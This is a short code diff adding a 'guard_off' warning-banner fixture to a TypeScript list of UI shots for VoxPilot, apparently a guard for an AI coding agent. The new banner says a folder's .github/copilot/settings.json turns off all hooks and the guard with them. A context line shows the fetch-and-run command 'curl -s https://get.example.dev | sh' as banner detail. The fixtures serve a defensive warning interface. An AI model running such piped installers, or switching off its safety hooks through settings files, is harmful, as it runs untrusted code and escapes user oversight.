@@ -627,6 +627,12 @@ export const shots: Shot[] = [
       detail: "curl -s https://get.example.dev | sh\n.github/hooks/format.json hooks.preToolUse",
     }),
   }),
+  shot("14-guard-off", {
+    story: prose().banner("guard_off", {
+      detail:
+        ".github/copilot/settings.json in this folder turns off all hooks, and with them VoxPilot's guard.",
+    }),
+  }),
   shot(
     "14-paused",
     {
